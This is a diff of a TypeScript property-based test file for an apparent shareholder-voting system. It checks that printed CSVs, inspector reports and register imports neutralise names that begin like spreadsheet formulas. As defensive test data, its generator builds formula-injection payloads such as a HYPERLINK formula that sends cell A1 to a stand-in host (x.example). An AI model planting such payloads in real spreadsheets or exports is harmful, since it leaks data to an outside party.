@@ -4,16 +4,28 @@
 //   - Names, addresses and meeting text with HTML, quotes and CR/LF: escaped on the ballot page, in the
 //     recount report, in the confirmation e-mail and in the notice e-mail; no header is ever split,
 //     checked on what the SES endpoint actually received.
+//   - Names and meeting text that begin like spreadsheet formulas (every spacing and full-width form): no
+//     cell of the print file or of the inspector's CSV report would run in a spreadsheet (one guard,
+//     shared/domain/csv.ts); the register import keeps such a name exactly and names it in its report;
+//     no URL in a notice, e-mail or paper, ever holds the control number.
 import { randomBytes } from 'node:crypto';
 import { DeleteTableCommand } from '@aws-sdk/client-dynamodb';
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { renderBallotHtml } from '../../shared/ballot-page/page.ts';
 import { renderConfirmation } from '../../shared/domain/confirmation-email.ts';
+import { beginsLikeFormula } from '../../shared/domain/csv.ts';
 import type { Holder } from '../../shared/domain/holder.ts';
+import { renderInspectorCsv } from '../../shared/domain/inspector-report.ts';
 import { type Meeting, meetingSchema } from '../../shared/domain/meeting.ts';
 import { renderNoticeEmail } from '../../shared/domain/notice.ts';
-import { parseRegister, REGISTER_COLUMNS, RegisterError } from '../../shared/domain/register.ts';
+import { printFileCsv, readPrintFile } from '../../shared/domain/print-file.ts';
+import {
+  parseRegister,
+  REGISTER_COLUMNS,
+  RegisterError,
+  serializeRegister,
+} from '../../shared/domain/register.ts';
 import { formatReport } from '../../shared/domain/report.ts';
 import { tabulate } from '../../shared/domain/tabulate.ts';
 import { SesMailer } from '../../shared/mail/mailer.ts';
@@ -283,6 +295,7 @@ describe('hostile names, addresses and meeting text', () => {
       holder: benignHolder,
       controlNumber: '4111111111111111',
       ballotUrl: 'https://vote.example.com/vote',
+      linkToken: 'AbCdEfGhIjKlMnOpQrStUv',
     });
     let samples = 0;
     await fc.assert(
@@ -303,7 +316,10 @@ describe('hostile names, addresses and meeting text', () => {
           holder: { ...benignHolder, name, jointNames: [name] },
           controlNumber: '4111111111111111',
           ballotUrl: 'https://vote.example.com/vote',
+          linkToken: 'AbCdEfGhIjKlMnOpQrStUv',
         });
+        for (const url of `${notice.text} ${notice.html}`.match(/https?:\/\/[^\s"<]+/g) ?? [])
+          expect(url.replace(/\D/g, '')).not.toContain('4111111111111111');
         for (const [mail, plain] of [
           [confirmation, benignConfirmation],
           [notice, benignNotice],
@@ -344,5 +360,77 @@ describe('hostile names, addresses and meeting text', () => {
     );
     expect(reachedVictim).toEqual([]);
     reportFigures('hostile text: e-mails', { samples, headerInjectedAddress: outcome });
+  });
+});
+
+// ---------------------------------------------------------------------------------------------------
+// Spreadsheet formulas in every CSV meant for people.
+
+const FORMULA_STARTS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+const LEADS = ['', ' ', '   ', '\u00a0', '\u00a0 ', '\u3000', '\u2007', '\t', '\r', '\n', '\r\n', ' \t'];
+const formulaText = fc
+  .tuple(fc.constantFrom(...LEADS), fc.constantFrom(...FORMULA_STARTS), hostileString)
+  .map(([lead, sign, rest]) => `${lead}${sign}HYPERLINK("http://x.example/?"&A1,"${rest}")`);
+
+/** A cell as a spreadsheet would open it: what runs is a cell that begins like a formula, unguarded. */
+const runs = (cell: string) => beginsLikeFormula(cell) && !cell.startsWith("'");
+
+describe('names that begin like spreadsheet formulas', () => {
+  it('run in no cell of the print file or the inspector report, and the register import names them', () => {
+    let samples = 0;
+    fc.assert(
+      fc.property(formulaText, fc.oneof(formulaText, hostileString), (name, meetingText) => {
+        const m = meetingNamed(meetingText);
+        const h = holder('F-1', 1_000, { name, jointNames: [name], mailingAddress: `${name}\n1 Main St` });
+        // The print file (mail-merge house): every cell.
+        const print = printFileCsv(m, 'https://vote.example.com/vote', [
+          { holder: h, controlNumber: '4111111111111111', reason: 'no-e-delivery', reissued: false },
+        ]);
+        const rows = readPrintFile(print);
+        expect(rows).toHaveLength(1);
+        for (const [column, cell] of Object.entries(rows[0] as Record<string, string>))
+          expect(runs(cell), `print file ${column}: ${JSON.stringify(cell)}`).toBe(false);
+        expect(rows[0]?.voting_link).toBe('https://vote.example.com/vote');
+        // The inspector's report: a nominee, a proposal title, the meeting named by hostile text.
+        const holders = [h, holder('REST', m.sharesOutstanding - 1_000)];
+        const result = tabulate(
+          m,
+          holders,
+          [internet('F-1', '2002-06-01T12:00:00.000Z', { '2': 'AGAINST' })],
+          {
+            cumulative: false,
+          },
+        );
+        for (const row of readPrintFile(renderInspectorCsv(result)))
+          for (const cell of Object.values(row))
+            expect(runs(cell), `report: ${JSON.stringify(cell)}`).toBe(false);
+        samples += 1;
+      }),
+      { numRuns: 300, seed: 20020613 },
+    );
+    reportFigures('hostile text: spreadsheet formulas', { samples });
+  });
+
+  it('are imported exactly from the register, and the import names them', () => {
+    fc.assert(
+      fc.property(formulaText, (name) => {
+        const q2 = (x: string) => `"${x.replaceAll('"', '""')}"`;
+        const csv = `${REGISTER_COLUMNS.join(',')}\nF-1,${q2(name)},,,no,${q2('1 Main St')},100,no\n`;
+        let parsed: ReturnType<typeof parseRegister>;
+        try {
+          parsed = parseRegister(csv, 100);
+        } catch (e) {
+          // A name the register refuses (a control character, say) is refused by name, never imported.
+          expect(e).toBeInstanceOf(RegisterError);
+          return;
+        }
+        expect(parsed.holders[0]?.name).toBe(name.trim());
+        if (beginsLikeFormula(parsed.holders[0]?.name ?? '')) {
+          expect(parsed.formulaLike).toEqual([{ account: 'F-1', field: 'name' }]);
+          expect(serializeRegister(parsed.holders)).toContain(q2(parsed.holders[0]?.name ?? '').slice(1, -1));
+        }
+      }),
+      { numRuns: 300, seed: 20020613 },
+    );
   });
 });
